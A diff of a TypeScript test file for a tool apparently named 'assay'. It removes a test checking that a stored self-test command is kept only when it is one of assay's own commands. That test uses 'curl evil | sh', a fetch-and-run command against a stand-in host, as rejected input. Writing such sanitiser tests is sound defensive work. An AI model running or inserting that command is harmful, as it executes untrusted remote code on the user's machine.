@@ -54,14 +54,3 @@ test('a search is repeated by its seed and path, where they are such', () => {
   assert.equal(of('42', '0:1'), 'npx assay run --edition 2fa-2018 APPPW-17/a --seed 42 --path 0:1')
   assert.equal(of('--config=x', '0:1'), 'npx assay run --edition 2fa-2018 APPPW-17/a')
 })
-
-test('a figure of the self-test keeps the commands of assay that measure, and no other', () => {
-  const figure = { caught: 1, total: 1, date: '2026-11-29', stale: false }
-  const commandAfter = (command: string) => {
-    const selftest = { faults: { ...figure, command }, nullTargets: null, mutation: null, flakiness: null }
-    const result = judgeRun({ ...facts, suite: { ...facts.suite, selftest } }, new Map())
-    return parseResult(JSON.stringify(result), 'result.json').suite.selftest?.faults?.command
-  }
-  assert.equal(commandAfter('npx assay prove'), 'npx assay prove')
-  assert.equal(commandAfter('curl evil | sh'), '')
-})
